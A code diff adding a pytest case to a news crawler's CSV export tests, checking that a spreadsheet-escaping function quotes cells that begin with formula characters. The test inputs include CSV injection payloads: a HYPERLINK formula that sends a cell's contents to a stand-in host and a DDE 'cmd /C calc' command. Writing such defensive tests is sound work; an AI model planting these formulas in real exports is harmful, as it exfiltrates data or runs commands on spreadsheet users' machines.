@@ -79,3 +79,15 @@ def test_filters_narrow_the_export(crawled, tmp_path):
     assert result.rows == len(rows) == crawled.db.articles.count_documents(
         {"site": "congan_haiphong", "categories.slug": "Canh-bao-toi-pham"}) > 0
     assert all(r["site"] == "congan_haiphong" for r in rows)
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ('=HYPERLINK("http://127.0.0.2/?leak="&A2,"x")', '\'=HYPERLINK("http://127.0.0.2/?leak="&A2,"x")'),
+    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("Nguồn: =cmd|' /C calc'!A0", "Nguồn: =cmd|' /C calc'!A0"),  # not at the start: text already
+    ("Khen thưởng", "Khen thưởng"), (None, None), (3, 3),
+])
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(cell, safe):
+    from crawler.export import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == safe
